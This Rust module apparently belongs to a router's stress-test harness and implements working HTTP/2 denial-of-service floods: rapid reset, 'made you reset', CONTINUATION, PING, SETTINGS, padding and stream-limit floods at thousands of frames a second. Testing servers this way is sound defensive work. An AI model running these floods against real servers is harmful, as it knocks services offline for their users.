//! Attackers who flood a connection of HTTP/2 with frames. They come again when they were sent away.

use std::cell::Cell;
use std::rc::Rc;

use tokio::io::AsyncWriteExt;

use super::frames::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, PUSH_PROMISE, RST_STREAM, SETTINGS,
    field, frame, get, post, preface, request, stream, window_update,
};
use super::ground::{Ground, Pace, crowd};
use super::prey;

/// How many connections a flood comes on.
const CONNECTIONS: u32 = 5;
/// Frames that each sends a second.
const FRAMES: u32 = 4_000;
/// The code of streams that are taken back: CANCEL.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// Frames on five connections, 20,000 a second. `one` makes what is sent the n-th time on a connection.
async fn flood(ground: Rc<Ground>, a_second: u32, one: impl Fn(u32) -> Vec<u8> + Clone + 'static) {
    crowd(ground, CONNECTIONS, 100, move |ground, _| {
        let one = one.clone();
        async move {
            let Ok(mut stream) = ground.connect(ground.clear).await else { return };
            if stream.write_all(&preface(65_535)).await.is_err() {
                return ground.stopped("reset");
            }
            let (mut reads, mut writes) = stream.split();
            let (pace, number) = (Pace::new(a_second), Cell::new(0));
            let sends = async {
                loop {
                    let due = pace.due().await;
                    let from = number.replace(number.get() + due);
                    let bytes: Vec<u8> = (from..from + due).flat_map(&one).collect();
                    if writes.write_all(&bytes).await.is_err() {
                        // How it ended is heard.
                        std::future::pending::<()>().await;
                    }
                    ground.sent(bytes.len(), due.into());
                }
            };
            tokio::select! {
                () = ground.hears_frames(&mut reads, |_| {}) => {}
                () = sends => {}
            }
        }
    })
    .await;
}

/// Requests that are taken back at once.
pub(super) async fn rapid_reset(ground: Rc<Ground>) {
    flood(ground, FRAMES, |n| [get(n, prey::HANG), frame(RST_STREAM, 0, stream(n), &CANCEL)].concat()).await;
}

/// Requests that the router has to take back, because something is wrong on their stream.
pub(super) async fn made_you_reset(ground: Rc<Ground>) {
    flood(ground, FRAMES, |n| {
        // More room than there may be: that is wrong on the stream alone.
        [get(n, prey::HANG), window_update(stream(n), 0x7fff_ffff)].concat()
    })
    .await;
}

/// A list of fields that never ends, in frames without anything.
pub(super) async fn empty_continuations(ground: Rc<Ground>) {
    flood(ground, FRAMES, |n| match n {
        0 => frame(HEADERS, END_STREAM, 1, &request("GET", prey::OK)),
        _ => frame(CONTINUATION, 0, 1, &[]),
    })
    .await;
}

/// The same in frames with a small field each.
pub(super) async fn continuations(ground: Rc<Ground>) {
    flood(ground, FRAMES, |n| {
        if n == 0 {
            return frame(HEADERS, END_STREAM, 1, &request("GET", prey::OK));
        }
        let mut fields = Vec::new();
        field(b"x", &[b'y'; 100], &mut fields);
        frame(CONTINUATION, 0, 1, &fields)
    })
    .await;
}

/// Bodies that go on behind their end.
pub(super) async fn behind_the_end(ground: Rc<Ground>) {
    flood(ground, FRAMES, |n| [get(n, prey::HANG), frame(DATA, END_STREAM, stream(n), b"more")].concat()).await;
}

pub(super) async fn pings(ground: Rc<Ground>) {
    flood(ground, FRAMES, |_| frame(PING, 0, 0, &[7; 8])).await;
}

pub(super) async fn settings(ground: Rc<Ground>) {
    flood(ground, FRAMES, |n| frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, (n % 256) as u8])).await;
}

/// Answers to what was never asked.
pub(super) async fn acknowledgements(ground: Rc<Ground>) {
    flood(ground, FRAMES, |n| if n % 2 == 0 { frame(PING, ACK, 0, &[7; 8]) } else { frame(SETTINGS, ACK, 0, &[]) })
        .await;
}

pub(super) async fn priorities(ground: Rc<Ground>) {
    flood(ground, FRAMES, |n| frame(PRIORITY, 0, stream(n), &[0, 0, 0, 0, 7])).await;
}

pub(super) async fn window_updates(ground: Rc<Ground>) {
    flood(ground, FRAMES, |_| window_update(0, 1)).await;
}

pub(super) async fn unknown_frames(ground: Rc<Ground>) {
    flood(ground, FRAMES, |n| frame((n % 200) as u8 + 50, 0, n % 7, b"nothing")).await;
}

/// Only a server may promise.
pub(super) async fn promises(ground: Rc<Ground>) {
    flood(ground, FRAMES, |n| {
        let promised = [&(2 * n + 2).to_be_bytes()[..], &request("GET", prey::OK)].concat();
        [get(n, prey::OK), frame(PUSH_PROMISE, END_HEADERS, stream(n), &promised)].concat()
    })
    .await;
}

/// Streams that have ended are ended again and again.
pub(super) async fn ended_again(ground: Rc<Ground>) {
    flood(ground, FRAMES, |n| match n % 50 {
        0 => get(n / 50, prey::OK),
        _ => frame(RST_STREAM, 0, stream(n / 50), &CANCEL),
    })
    .await;
}

/// Pieces of a body with nothing in them.
pub(super) async fn empty_data(ground: Rc<Ground>) {
    flood(ground, FRAMES, |n| if n == 0 { post(0, prey::HANG) } else { frame(DATA, 0, 1, &[]) }).await;
}

/// The same, where all there is is padding.
pub(super) async fn padding(ground: Rc<Ground>) {
    const PADDED: u8 = 8;
    flood(ground, FRAMES, |n| if n == 0 { post(0, prey::HANG) } else { frame(DATA, PADDED, 1, &[2, 0, 0]) }).await;
}

/// A body byte by byte.
pub(super) async fn tiny_data(ground: Rc<Ground>) {
    flood(ground, FRAMES, |n| if n == 0 { post(0, prey::HANG) } else { frame(DATA, 0, 1, b"x") }).await;
}

/// Requests above the bound of those at a time.
pub(super) async fn too_many_streams(ground: Rc<Ground>) {
    flood(ground, 1_000, |n| get(n, prey::HANG)).await;
}
